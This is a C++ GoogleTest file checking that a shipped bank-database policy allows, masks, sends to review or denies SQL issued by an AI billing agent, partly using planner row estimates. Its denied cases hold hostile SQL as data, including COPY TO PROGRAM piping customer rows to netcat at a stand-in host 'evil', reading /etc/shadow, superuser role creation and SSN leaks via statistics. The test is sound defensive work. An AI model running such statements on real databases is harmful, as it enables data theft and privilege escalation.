// The example policy shipped for the bank scenario (packaging/examples/bank-policy.yaml,
// installed as policy.yaml.example and quoted in the README) decides as its comments say,
// on statements classified by the real grammar.
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "userspace/policy/loader.h"
#include "userspace/sql/classify.h"

namespace interlock::policy {
namespace {

struct Case {
  std::string sql;
  v1::Action action;
  std::string rule;
};

class ShippedBankPolicy : public ::testing::TestWithParam<Case> {
 protected:
  static void SetUpTestSuite() {
    auto eval = LoadPolicyFile(INTERLOCK_BANK_POLICY);
    ASSERT_TRUE(eval.ok()) << eval.status();
    eval_ = std::move(*eval).release();
  }
  static PolicyEvaluator* eval_;
};
PolicyEvaluator* ShippedBankPolicy::eval_ = nullptr;

TEST_P(ShippedBankPolicy, Decides) {
  const Case& c = GetParam();
  auto sql = sql::Classify(c.sql);
  ASSERT_TRUE(sql.ok());
  Decision d = eval_->Evaluate({.workload = "billing-agent"}, "bank-db", *sql);
  EXPECT_EQ(ActionName(d.action), ActionName(c.action)) << c.sql << " -> " << d.rule_id;
  EXPECT_EQ(d.rule_id, c.rule) << c.sql;
}

INSTANTIATE_TEST_SUITE_P(
    Bank, ShippedBankPolicy,
    ::testing::Values(
        // The agent may SELECT customers with a WHERE or a LIMIT, masked by the pii profile;
        // other tables as they are.
        Case{"SELECT name, email FROM customers WHERE id = 42", v1::ACTION_MASK, "mask-customer-reads"},
        Case{"SELECT name FROM customers LIMIT 10", v1::ACTION_MASK, "mask-customer-reads"},
        Case{"SELECT balance FROM accounts WHERE id = 7", v1::ACTION_ALLOW, "allow-reads"},
        // A full-table read of customers, UPDATE/DELETE without WHERE, COPY TO and DDL: review.
        Case{"SELECT * FROM customers", v1::ACTION_REVIEW, "review-full-customer-read"},
        // A cursor's rows are its query's: judged as the SELECT it runs.
        Case{"DECLARE c CURSOR FOR SELECT * FROM customers", v1::ACTION_REVIEW, "review-full-customer-read"},
        Case{"DECLARE c CURSOR FOR SELECT * FROM customers LIMIT 5", v1::ACTION_MASK, "mask-customer-reads"},
        Case{"SELECT c.* FROM public.customers c JOIN accounts a ON a.cid = c.id", v1::ACTION_REVIEW,
             "review-full-customer-read"},
        Case{"UPDATE accounts SET balance = 0", v1::ACTION_REVIEW, "review-unfiltered-writes"},
        Case{"DELETE FROM customers", v1::ACTION_REVIEW, "review-unfiltered-writes"},
        Case{"DELETE FROM customers WHERE id = 9", v1::ACTION_ALLOW, "allow-filtered-writes"},
        Case{"COPY customers TO STDOUT", v1::ACTION_REVIEW, "review-copy-out"},
        Case{"COPY (SELECT ssn FROM customers WHERE id = 1) TO STDOUT", v1::ACTION_REVIEW, "review-copy-out"},
        Case{"CREATE TABLE t (a int)", v1::ACTION_REVIEW, "review-ddl"},
        Case{"TRUNCATE customers", v1::ACTION_REVIEW, "review-ddl"},
        Case{"WITH x AS (DELETE FROM accounts WHERE id = 1 RETURNING id) SELECT count(*) FROM x", v1::ACTION_REVIEW,
             "review-hidden-writes"},
        // COPY PROGRAM, pg_read_file, lo_export, dblink and role changes: denied.
        Case{"COPY customers TO PROGRAM 'nc evil 9'", v1::ACTION_DENY, "deny-copy-program"},
        Case{"SELECT pg_read_file('/etc/shadow')", v1::ACTION_DENY, "deny-server-files-and-links"},
        Case{"SELECT lo_export(16384, '/tmp/x')", v1::ACTION_DENY, "deny-server-files-and-links"},
        Case{"SELECT query_to_xml('SELECT ssn FROM customers', true, false, '')", v1::ACTION_DENY,
             "deny-sql-given-as-text"},
        Case{"SELECT pg_catalog.table_to_xml('customers', true, false, '')", v1::ACTION_DENY, "deny-sql-given-as-text"},
        Case{"SELECT most_common_vals FROM pg_catalog.pg_stats WHERE attname = 'ssn'", v1::ACTION_DENY,
             "deny-planner-statistics"},
        Case{"SELECT * FROM pg_stats", v1::ACTION_DENY, "deny-planner-statistics"},
        Case{"SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", v1::ACTION_DENY,
             "deny-server-files-and-links"},
        Case{"CREATE ROLE eve SUPERUSER", v1::ACTION_DENY, "deny-role-changes"},
        Case{"SET ROLE postgres", v1::ACTION_DENY, "deny-role-changes"},
        Case{"GRANT SELECT ON customers TO eve", v1::ACTION_DENY, "deny-role-changes"},
        Case{"DO $$BEGIN PERFORM 1; END$$", v1::ACTION_DENY, "deny-opaque-code"},
        // Housekeeping passes; what nobody wrote a rule for goes to a human.
        Case{"BEGIN", v1::ACTION_ALLOW, "allow-session-housekeeping"},
        Case{"SET statement_timeout = '5s'", v1::ACTION_ALLOW, "allow-session-housekeeping"},
        Case{"VACUUM customers", v1::ACTION_REVIEW, ""},
        Case{"SELEC 1", v1::ACTION_DENY, ""}));

// Full-table operations however they are spelled, with the planner's estimates as
// interlockd would get them (the statement's, and the whole table's).
struct EstimatedCase {
  std::string sql;
  int64_t rows;
  int64_t table_rows;  // of customers
  v1::Action action;
  std::string rule;
};

class ShippedBankPolicyEstimates : public ::testing::TestWithParam<EstimatedCase> {};

TEST_P(ShippedBankPolicyEstimates, Decides) {
  const EstimatedCase& c = GetParam();
  auto eval = LoadPolicyFile(INTERLOCK_BANK_POLICY);
  ASSERT_TRUE(eval.ok()) << eval.status();
  auto sql = sql::Classify(c.sql);
  ASSERT_TRUE(sql.ok());
  Decision first = (*eval)->Evaluate({.workload = "billing-agent"}, "bank-db", *sql);
  ASSERT_THAT(first.needs_estimate, ::testing::ElementsAre(0)) << c.sql;
  ASSERT_EQ(first.needs_table_estimates[0].size(), 1u) << c.sql;
  StatementEstimates est(1);
  est[0].rows = c.rows;
  est[0].table_rows[first.needs_table_estimates[0][0].qualified_name()] = c.table_rows;
  Decision d = (*eval)->Evaluate({.workload = "billing-agent"}, "bank-db", *sql, &est);
  EXPECT_EQ(ActionName(d.action), ActionName(c.action)) << c.sql << " -> " << d.rule_id;
  EXPECT_EQ(d.rule_id, c.rule) << c.sql;
}

INSTANTIATE_TEST_SUITE_P(
    Bank, ShippedBankPolicyEstimates,
    ::testing::Values(
        EstimatedCase{"SELECT * FROM customers LIMIT 1000000", 1000, 1000, v1::ACTION_REVIEW,
                      "review-whole-customer-table"},
        EstimatedCase{"SELECT * FROM customers WHERE id > 0", 1000, 1000, v1::ACTION_REVIEW,
                      "review-whole-customer-table"},
        EstimatedCase{"SELECT ssn FROM public.customers WHERE 1 = 1 LIMIT 5000", 1000, 1000, v1::ACTION_REVIEW,
                      "review-whole-customer-table"},
        EstimatedCase{"DELETE FROM customers WHERE true", 1000, 1000, v1::ACTION_REVIEW,
                      "review-whole-table-writes"},
        EstimatedCase{"UPDATE customers SET note = '' WHERE 1=1", 1000, 1000, v1::ACTION_REVIEW,
                      "review-whole-table-writes"},
        EstimatedCase{"INSERT INTO accounts SELECT id, id, 0 FROM customers WHERE id > 0", 1000, 1000,
                      v1::ACTION_REVIEW, "review-whole-customer-table"},
        // Narrow statements on a large table, and anything on a tiny one.
        EstimatedCase{"SELECT * FROM customers WHERE id = 1", 1, 1000, v1::ACTION_MASK, "mask-customer-reads"},
        EstimatedCase{"SELECT name FROM customers LIMIT 10", 10, 1000, v1::ACTION_MASK, "mask-customer-reads"},
        EstimatedCase{"SELECT name FROM customers LIMIT 10", 2, 2, v1::ACTION_MASK, "mask-customer-reads"},
        EstimatedCase{"DELETE FROM customers WHERE id = 3", 1, 1000, v1::ACTION_ALLOW, "allow-filtered-writes"},
        EstimatedCase{"DELETE FROM customers WHERE true", 1, 1, v1::ACTION_ALLOW, "allow-filtered-writes"},
        // No estimate: held.
        EstimatedCase{"SELECT * FROM customers WHERE id = 1", kEstimateFailed, 1000, v1::ACTION_REVIEW,
                      "review-whole-customer-table"}));

}  // namespace
}  // namespace interlock::policy
